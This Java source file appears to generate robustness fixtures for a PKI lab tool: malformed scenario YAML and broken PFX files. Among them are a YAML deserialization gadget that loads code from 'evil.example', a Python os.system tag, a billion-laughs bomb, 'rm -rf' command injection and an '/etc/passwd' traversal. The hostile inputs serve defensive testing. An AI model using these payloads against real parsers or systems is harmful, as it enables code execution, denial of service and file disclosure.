package org.pkilab.robustness;

import org.pkilab.pki.KeyFiles;

import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.security.KeyPair;
import java.security.KeyStore;
import java.security.cert.X509Certificate;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Random;

import javax.crypto.spec.PBEParameterSpec;

import static org.pkilab.robustness.HostileCorpus.*;

/**
 * The corpus of files a user hands the lab: scenario files for {@code pkilab run}, each one mistake in an
 * otherwise good scenario (so the refusal must name that line), and PFX files for the Certificate Import
 * Wizard with wrong passwords or broken structure.
 */
final class FileCorpus {

    private final List<ScenarioFile> scenarios;
    private final List<PfxFile> pfx;
    private final RequestForge forge = new RequestForge(SEED + 2);
    private final Random random = new Random(SEED + 2);

    FileCorpus(List<ScenarioFile> scenarios, List<PfxFile> pfx) {
        this.scenarios = scenarios;
        this.pfx = pfx;
    }

    void generate() {
        scenarioFiles();
        pfxFiles();
    }

    static final List<String> SCENARIO = List.of(
            "name: hostile-base",                                                                          // 1
            "title: A scenario the corpus breaks one line at a time",                                      // 2
            "lab:",                                                                                        // 3
            "  computers:",                                                                                // 4
            "    - {name: IIS01, role: iis, dns: [server1.internal.contoso.com]}",                         // 5
            "    - {name: PC01, role: client}",                                                            // 6
            "  users: [alice]",                                                                            // 7
            "steps:",                                                                                      // 8
            "  - create group: ConfigMgr IIS Servers",                                                     // 9
            "  - add member: {group: ConfigMgr IIS Servers, member: IIS01$}",                              // 10
            "  - duplicate template: {template: Web Server, name: ConfigMgr Web Server Certificate}",      // 11
            "  - minimum key size: {template: ConfigMgr Web Server Certificate, bits: 2048}",              // 12
            "  - allow: {template: ConfigMgr Web Server Certificate, principal: ConfigMgr IIS Servers, rights: [Read, Enroll]}", // 13
            "  - issue template: ConfigMgr Web Server Certificate",                                        // 14
            "  - restart: IIS01",                                                                          // 15
            "  - request certificate: {host: IIS01, template: ConfigMgr Web Server Certificate, dns: [server1.internal.contoso.com]}", // 16
            "    says: Request New Certificate.",                                                          // 17
            "    expect: success",                                                                         // 18
            "  - create gpo: {name: Autoenroll, autoenrollment: enabled, link: true}");                    // 19

    private void scenario(String category, String name, List<String> lines, int line, String mentions) {
        scenario(category, name, (String.join("\n", lines) + "\n").getBytes(StandardCharsets.UTF_8), line, mentions);
    }

    private void scenario(String category, String name, byte[] content, int line, String mentions) {
        scenarios.add(new ScenarioFile(category, name, "hostile-" + (scenarios.size() + 1) + ".yaml", content, line, mentions));
    }

    private static List<String> with(int line, String text) {
        List<String> copy = new ArrayList<>(SCENARIO);
        copy.set(line - 1, text);
        return copy;
    }

    private static List<String> inserted(int line, String text) {
        List<String> copy = new ArrayList<>(SCENARIO);
        copy.add(line - 1, text);
        return copy;
    }

    private void scenarioFiles() {
        String mistakes = "Scenario file: mistakes";
        List<String> junkVerbs = List.of("create grupo", "restrat", "issue templates", "request", "delete everything", "sudo", "rm -rf",
                "create groups", "allow all", "$(reboot)", "include scenario", "drop table steps --", "create  group", "restart!", "approve",
                "add members", "duplicate", "exploit", "bind http", "export pfx now");
        int[] verbLines = {9, 10, 11, 12, 13, 14, 15, 16, 19};
        for (int i = 0; i < junkVerbs.size(); i++) {
            int line = verbLines[i % verbLines.length];
            String original = SCENARIO.get(line - 1);
            String verb = original.substring(4, original.indexOf(':'));
            scenario(mistakes, "unknown verb '" + junkVerbs.get(i) + "' on line " + line, with(line, original.replace("- " + verb + ":",
                    "- " + junkVerbs.get(i) + ":")), line, "unknown verb");
        }
        for (String bits : List.of("lots", "2048.5", "-", "0x800", "[2048]", "{b: 1}", "99999999999", "二千", "''", "true")) {
            scenario(mistakes, "bits '" + bits + "'", with(12, "  - minimum key size: {template: ConfigMgr Web Server Certificate, bits: " + bits + "}"),
                    12, "must be");
        }
        for (String link : List.of("maybe", "2", "[true]", "{x: y}", "'yes please'")) {
            scenario(mistakes, "link '" + link + "'", with(19, "  - create gpo: {name: Autoenroll, autoenrollment: enabled, link: " + link + "}"),
                    19, "must be");
        }
        scenario(mistakes, "rights as a mapping", with(13, "  - allow: {template: T, principal: P, rights: {Read: yes}}"), 13, "must");
        scenario(mistakes, "dns as a mapping", with(16, "  - request certificate: {host: IIS01, template: T, dns: {a: b}}"), 16, "must");
        scenario(mistakes, "dns with a nested list", with(16, "  - request certificate: {host: IIS01, template: T, dns: [[a]]}"), 16, "text items");
        for (String expect : List.of("bogus", "failure", "{error: [x]}", "{errors: x}", "[success]", "{error: a, also: b}")) {
            scenario(mistakes, "expect '" + expect + "'", with(18, "    expect: " + expect), 18, "expect must be");
        }
        scenario(mistakes, "says as a list", with(17, "    says: [a, b]"), 17, "must be text");
        scenario(mistakes, "member missing", with(10, "  - add member: {group: ConfigMgr IIS Servers}"), 10, "missing its field 'member'");
        scenario(mistakes, "bits missing", with(12, "  - minimum key size: {template: ConfigMgr Web Server Certificate}"), 12, "missing its field 'bits'");
        scenario(mistakes, "principal missing", with(13, "  - allow: {template: T, rights: [Read]}"), 13, "missing its field 'principal'");
        scenario(mistakes, "host missing", with(16, "  - request certificate: {template: T}"), 16, "missing its field 'host'");
        scenario(mistakes, "an empty mapping of fields", with(10, "  - add member: {}"), 10, "missing its field");
        scenario(mistakes, "a verb without fields", with(10, "  - add member:"), 10, "");
        scenario(mistakes, "a field the verb does not have", with(15, "  - restart: {host: IIS01, force: true}"), 15, "has no field 'force'");
        scenario(mistakes, "a second verb in one step", inserted(10, "    restart: IIS01"), 10, "a step has one verb");
        scenario(mistakes, "an unknown top-level key", inserted(3, "colour: blue"), 3, "unknown key 'colour'");
        scenario(mistakes, "an unknown lab key", inserted(4, "  network: 10.0.0.0/8"), 4, "unknown key 'network'");
        scenario(mistakes, "an unknown computer key", with(6, "    - {name: PC01, role: client, os: windows}"), 6, "unknown key 'os'");
        scenario(mistakes, "an unknown role", with(6, "    - {name: PC01, role: domain controller}"), 6, "role must be");
        scenario(mistakes, "a computer as text", with(6, "    - PC01"), 6, "a computer is a mapping");
        List<String> computersAsText = new ArrayList<>(SCENARIO);
        computersAsText.subList(3, 6).clear();
        computersAsText.add(3, "  computers: [[IIS01]]");
        scenario(mistakes, "computers as a list of lists", computersAsText, 4, "a computer is a mapping");
        scenario(mistakes, "lesson 'maybe'", inserted(3, "lesson: maybe"), 3, "lesson must be true or false");
        scenario(mistakes, "title missing", withoutLine(2), 1, "missing 'title'");
        scenario(mistakes, "steps as a mapping", withSteps("steps: {restart: IIS01}"), 8, "'steps' must be a list");
        scenario(mistakes, "steps missing", SCENARIO.subList(0, 7), 1, "missing 'steps'");
        scenario(mistakes, "a step as text", with(15, "  - restart IIS01"), 15, "a step is");
        scenario(mistakes, "a step without a verb", with(15, "  - says: nothing to do"), 15, "a step needs a verb");
        for (String host : List.of("NOPE", "iis02", "*", "(cn=*)", "IIS01; rm -rf /", "\\\\IIS01", "IIS01$", "localhost")) {
            scenario(mistakes, "restart host '" + host + "'", with(15, "  - restart: '" + host.replace("'", "''") + "'"), 15, "is not a computer");
        }
        scenario(mistakes, "include of a scenario that does not exist", with(9, "  - include: no-such-scenario"), 9, "no built-in scenario");
        scenario(mistakes, "include of a path", with(9, "  - include: ../../etc/passwd"), 9, "no built-in scenario");
        scenario(mistakes, "a scenario that is a list", List.of("- name: x", "- title: y"), 1, "a scenario is a mapping");
        scenario(mistakes, "a scenario that is text", List.of("just some text"), 1, "a scenario is a mapping");
        scenario(mistakes, "an empty file", new byte[0], 1, "a scenario is a mapping");
        scenario(mistakes, "only comments", List.of("# nothing", "# here"), 1, "a scenario is a mapping");

        String yaml = "Scenario file: not YAML";
        scenario(yaml, "an unclosed flow mapping", with(10, "  - add member: {group: ConfigMgr IIS Servers, member: IIS01$"), 0, "not valid YAML");
        scenario(yaml, "an unclosed sequence", with(7, "  users: [alice"), 0, "not valid YAML");
        scenario(yaml, "an unclosed quote", with(2, "title: \"A scenario"), 0, "not valid YAML");
        scenario(yaml, "a tab for indentation", with(9, "\t- create group: ConfigMgr IIS Servers"), 9, "not valid YAML");
        scenario(yaml, "a step indented too far", with(10, "      - add member: {group: G, member: M}"), 10, "not valid YAML");
        scenario(yaml, "a key with two colons", with(2, "title: a: b: c"), 2, "not valid YAML");
        scenario(yaml, "a duplicate key", inserted(2, "name: again"), 2, "given twice");
        scenario(yaml, "a duplicate field", with(10, "  - add member: {group: G, group: H, member: M}"), 10, "given twice");
        scenario(yaml, "a duplicate step key", inserted(18, "    says: twice"), 18, "given twice");
        scenario(yaml, "two documents", inserted(3, "---"), 3, "not valid YAML");
        scenario(yaml, "an undefined alias", with(15, "  - restart: *nobody"), 15, "not valid YAML");
        scenario(yaml, "a stray ']'", with(15, "  - restart: IIS01]"), 0, "");
        scenario(yaml, "a Java type tag", with(2, "title: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/\"]]]]"),
                0, "");
        scenario(yaml, "a Python type tag", with(2, "title: !!python/object/apply:os.system ['reboot']"), 0, "");
        StringBuilder bomb = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'j'; c++) {
            bomb.append(c).append(": &").append(c).append(" [*").append((char) (c - 1)).append(",*").append((char) (c - 1)).append(",*")
                    .append((char) (c - 1)).append(",*").append((char) (c - 1)).append(",*").append((char) (c - 1)).append("]\n");
        }
        scenario(yaml, "a billion laughs", (bomb + "name: x\ntitle: y\nsteps: [*j]\n").getBytes(StandardCharsets.UTF_8), 0, "not valid YAML");
        scenario(yaml, "1,000 nested lists", ("name: x\ntitle: y\nsteps: " + "[".repeat(1000) + "]".repeat(1000) + "\n").getBytes(StandardCharsets.UTF_8),
                0, "not valid YAML");
        scenario(yaml, "1,000 nested mappings", ("name: x\ntitle: y\nsteps: " + "{a: ".repeat(1000) + "b" + "}".repeat(1000) + "\n")
                .getBytes(StandardCharsets.UTF_8), 0, "not valid YAML");
        byte[] huge = new byte[1_200_000];
        Arrays.fill(huge, (byte) '#');
        scenario(yaml, "a file of 1.2 MB of comment", huge, 1, "");
        byte[] longLine = ("name: x\ntitle: " + "t".repeat(1_100_000) + "\nsteps: []\n").getBytes(StandardCharsets.UTF_8);
        scenario(yaml, "a title of 1.1 million characters", longLine, 0, "");

        String control = "Scenario file: control characters";
        String[] controls = {"\u0000", "\u0001", "\u0007", "\u0008", "\u000b", "\u000c", "\u001b", "\u007f", "\u0080", "\u009b", "\ufffe",
                "\uffff", "\u001f", "\u0002", "\u0006"};
        for (int i = 0; i < controls.length; i++) {
            int line = 2 + (i * 5) % 18;
            String original = SCENARIO.get(line - 1);
            String broken = original + " " + controls[i];
            scenario(control, String.format("U+%04X on line %d", (int) controls[i].charAt(0), line), with(line, broken), line, "");
        }

        String encoding = "Scenario file: not UTF-8";
        byte[][] bad = {{(byte) 0xFF}, {(byte) 0xFE, (byte) 0xFF}, {(byte) 0xC0, (byte) 0x80}, {(byte) 0x80}, {(byte) 0xE2, (byte) 0x82},
                {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF4, (byte) 0x90, (byte) 0x80, (byte) 0x80}, {(byte) 0xE9},
                {(byte) 0xC3}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80, (byte) 0x80, (byte) 0x80}, {(byte) 0xBF}, {(byte) 0xF0, (byte) 0x9F}};
        for (int i = 0; i < bad.length; i++) {
            int line = 2 + (i * 7) % 18;
            List<String> lines = new ArrayList<>(SCENARIO);
            byte[] before = (String.join("\n", lines.subList(0, line - 1)) + "\n" + lines.get(line - 1) + " ").getBytes(StandardCharsets.UTF_8);
            byte[] after = ("\n" + String.join("\n", lines.subList(line, lines.size())) + "\n").getBytes(StandardCharsets.UTF_8);
            scenario(encoding, "bytes " + hex(bad[i]) + " on line " + line, HttpsWire.concat(before, bad[i], after), line, "not UTF-8");
        }
        scenario(encoding, "UTF-16 text", String.join("\n", SCENARIO).getBytes(StandardCharsets.UTF_16), 1, "not UTF-8");
        for (int i = 0; i < 5; i++) {
            byte[] junk = new byte[64 + random.nextInt(4000)];
            random.nextBytes(junk);
            scenario(encoding, junk.length + " random bytes", junk, 0, "");
        }
    }

    private static List<String> withoutLine(int line) {
        List<String> copy = new ArrayList<>(SCENARIO);
        copy.remove(line - 1);
        return copy;
    }

    private static List<String> withSteps(String steps) {
        List<String> copy = new ArrayList<>(SCENARIO.subList(0, 7));
        copy.add(steps);
        return copy;
    }

    private static String hex(byte[] bytes) {
        StringBuilder s = new StringBuilder();
        for (byte b : bytes) {
            s.append(s.length() == 0 ? "" : " ").append(String.format("%02X", b & 0xFF));
        }
        return s.toString();
    }

    // ---- PFX files -------------------------------------------------------------------------------

    private void pfxFiles() {
        // the Import Wizard does not care how large a key is: small ones are quicker to make
        KeyPair pair = forge.rsa(1024);
        X509Certificate cert = RequestForge.certificate("CN=dp.contoso.com", "CN=dp.contoso.com", pair, pair.getPrivate(), BigInteger.valueOf(7030), 1);
        byte[] good;
        try {
            good = KeyFiles.pkcs12(new KeyFiles.KeyEntry(pair.getPrivate(), new X509Certificate[]{cert}), PFX_PASSWORD.toCharArray());
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        char[] right = PFX_PASSWORD.toCharArray();
        List<String> wrongPassword = List.of("password you entered is incorrect");
        List<String> broken = List.of("not a PKCS #12", "password you entered is incorrect");

        String passwords = "PFX: wrong password";
        List<String> guesses = new ArrayList<>(List.of("", " ", "str0ng-pfx!", "STR0NG-PFX!", "Str0ng-Pfx", "Str0ng-Pfx!!", " Str0ng-Pfx!",
                "Str0ng-Pfx! ", "Str0ng-Pfx!\u0000", "password", "Lab-Passw0rd!", "Strøng-Pfx!", "证书", "\u0000", "p".repeat(10_000)));
        while (guesses.size() < 30) {
            guesses.add(randomText(random, 1 + random.nextInt(40)));
        }
        for (String guess : guesses) {
            pfx.add(new PfxFile(passwords, "password '" + printable(guess.length() > 40 ? guess.substring(0, 40) + "..." : guess) + "'",
                    PfxKind.FILE, "dp.pfx", good, guess.toCharArray(), wrongPassword));
        }
        pfx.add(new PfxFile(passwords, "no password at all (null)", PfxKind.FILE, "dp.pfx", good, null, wrongPassword));

        String structure = "PFX: broken structure";
        for (int i = 0; i < 30; i++) {
            int length = i * good.length / 30;
            pfx.add(new PfxFile(structure, "first " + length + " of " + good.length + " bytes", PfxKind.FILE, "cut.pfx",
                    Arrays.copyOf(good, length), right, broken));
        }
        for (int i = 0; i < 30; i++) {
            byte[] changed = good.clone();
            int at = random.nextInt(changed.length);
            changed[at] ^= (byte) (1 + random.nextInt(255));
            pfx.add(new PfxFile(structure, "byte " + at + " changed", PfxKind.FILE, "flipped.pfx", changed, right, broken));
        }
        for (int i = 0; i < 8; i++) {
            byte[] junk = new byte[1 + random.nextInt(5000)];
            random.nextBytes(junk);
            if (i % 2 == 1) {
                junk[0] = 0x30;
            }
            pfx.add(new PfxFile(structure, junk.length + " random bytes", PfxKind.FILE, "random.pfx", junk, right, broken));
        }
        try {
            pfx.add(new PfxFile(structure, "a PEM certificate", PfxKind.FILE, "cert.pem", KeyFiles.pem(cert).getBytes(StandardCharsets.US_ASCII), right, broken));
            pfx.add(new PfxFile(structure, "a DER certificate", PfxKind.FILE, "cert.cer", cert.getEncoded(), right, broken));
            pfx.add(new PfxFile(structure, "a PKCS #10 request", PfxKind.FILE, "req.p10", RequestForge.request(pair, RequestForge.cn("dp.contoso.com")),
                    right, broken));
            pfx.add(new PfxFile(structure, "10,000 nested SEQUENCEs", PfxKind.FILE, "deep.pfx", RequestForge.nested(10_000), right, broken));
            byte[] huge = new byte[3 << 20];
            random.nextBytes(huge);
            huge[0] = 0x30;
            pfx.add(new PfxFile(structure, "3 MB of random bytes", PfxKind.FILE, "huge.pfx", huge, right, broken));
            pfx.add(new PfxFile(structure, "an empty file", PfxKind.FILE, "empty.pfx", new byte[0], right, broken));
            KeyStore certOnly = KeyStore.getInstance("PKCS12");
            certOnly.load(null, null);
            certOnly.setCertificateEntry("c", cert);
            java.io.ByteArrayOutputStream out = new java.io.ByteArrayOutputStream();
            certOnly.store(out, right);
            pfx.add(new PfxFile(structure, "a PFX with a certificate but no key", PfxKind.FILE, "nokey.pfx", out.toByteArray(), right,
                    List.of("holds no private key")));
            KeyPair stranger = forge.rsa(1024);
            pfx.add(new PfxFile(structure, "a PFX whose key is not its certificate's", PfxKind.FILE, "mismatch.pfx",
                    KeyFiles.pkcs12(new KeyFiles.KeyEntry(stranger.getPrivate(), new X509Certificate[]{cert}), right), right,
                    List.of("does not belong to")));
            KeyStore jks = KeyStore.getInstance("JKS");
            jks.load(null, null);
            jks.setKeyEntry("k", pair.getPrivate(), right, new X509Certificate[]{cert});
            out = new java.io.ByteArrayOutputStream();
            jks.store(out, right);
            pfx.add(new PfxFile(structure, "a Java keystore (JKS)", PfxKind.FILE, "store.jks", out.toByteArray(), right, broken));
            // each iteration would be spent before a wrong password shows: the file is refused before any is
            KeyStore costly = KeyStore.getInstance("PKCS12");
            costly.load(null, null);
            costly.setEntry("k", new KeyStore.PrivateKeyEntry(pair.getPrivate(), new X509Certificate[]{cert}), new KeyStore.PasswordProtection(right,
                    "PBEWithHmacSHA256AndAES_256", new PBEParameterSpec(new byte[16], 1_000_000)));
            out = new java.io.ByteArrayOutputStream();
            costly.store(out, right);
            for (char[] password : List.of(right, "wrong".toCharArray())) {
                pfx.add(new PfxFile("PFX: costly key protection", "a key protected with 1,000,000 iterations, password "
                        + (password == right ? "right" : "wrong"), PfxKind.FILE, "costly.pfx", out.toByteArray(), password,
                        List.of("600,000")));
            }
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
        pfx.add(new PfxFile(structure, "a file that does not exist", PfxKind.MISSING, "missing.pfx", null, right, List.of("cannot read")));
        pfx.add(new PfxFile(structure, "a folder", PfxKind.DIRECTORY, "folder.pfx", null, right, List.of("cannot read")));
    }
}
